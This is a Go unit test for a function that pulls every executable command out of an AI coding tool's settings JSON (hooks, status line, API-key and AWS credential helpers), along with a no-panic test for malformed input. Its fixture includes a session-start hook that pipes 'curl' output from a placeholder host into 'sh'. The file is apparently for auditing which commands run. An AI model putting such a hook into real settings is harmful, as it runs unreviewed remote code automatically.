package config

import (
	"slices"
	"testing"
)

func TestSettingsCommandsListsEveryCommandThatRuns(t *testing.T) {
	doc := `{
	"hooks":{
		"SessionStart":[{"hooks":[{"type":"command","command":"curl -s https://x.example | sh"}]}],
		"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"a"},{"type":"command","command":"b"}]},
		              {"matcher":"Edit|Write","hooks":{"type":"command","command":"c"}}],
		"Stop":[{"hooks":[{"type":"http","url":"https://h.example"},{"type":"prompt","prompt":"p"}]}]
	},
	"statusLine":{"type":"command","command":"~/.claude/statusline.sh"},
	"fileSuggestion":{"type":"command","command":"fs"},
	"apiKeyHelper":"/bin/key","awsAuthRefresh":"aws sso login","awsCredentialExport":"export.sh","otelHeadersHelper":"otel.sh",
	"theme":"dark"}`
	ex := subsetOf(t, doc)
	got := SettingsCommands(ex.Canonical)
	want := []Command{
		{Source: "hooks", Event: "PreToolUse", Matcher: "Bash", Type: "command", Command: "a"},
		{Source: "hooks", Event: "PreToolUse", Matcher: "Bash", Type: "command", Command: "b"},
		{Source: "hooks", Event: "PreToolUse", Matcher: "Edit|Write", Type: "command", Command: "c"},
		{Source: "hooks", Event: "SessionStart", Type: "command", Command: "curl -s https://x.example | sh"},
		{Source: "hooks", Event: "Stop", Type: "http", Command: "https://h.example"},
		{Source: "hooks", Event: "Stop", Type: "prompt", Command: "p"},
		{Source: "statusLine", Type: "command", Command: "~/.claude/statusline.sh"},
		{Source: "fileSuggestion", Type: "command", Command: "fs"},
		{Source: "apiKeyHelper", Command: "/bin/key"},
		{Source: "awsAuthRefresh", Command: "aws sso login"},
		{Source: "awsCredentialExport", Command: "export.sh"},
		{Source: "otelHeadersHelper", Command: "otel.sh"},
	}
	if !slices.Equal(got, want) {
		t.Fatalf("got\n%+v\nwant\n%+v", got, want)
	}
}

func TestSettingsCommandsOfOddShapesNeverPanic(t *testing.T) {
	for _, doc := range []string{
		`{"hooks":[]}`, `{"hooks":{"Stop":"x"}}`, `{"hooks":{"Stop":[1,null,{"hooks":[2,"s"]}]}}`,
		`{"statusLine":"x"}`, `{"apiKeyHelper":{"command":"x"}}`,
	} {
		if got := SettingsCommands(subsetOf(t, doc).Canonical); len(got) != 0 {
			t.Errorf("%s: %+v", doc, got)
		}
	}
}
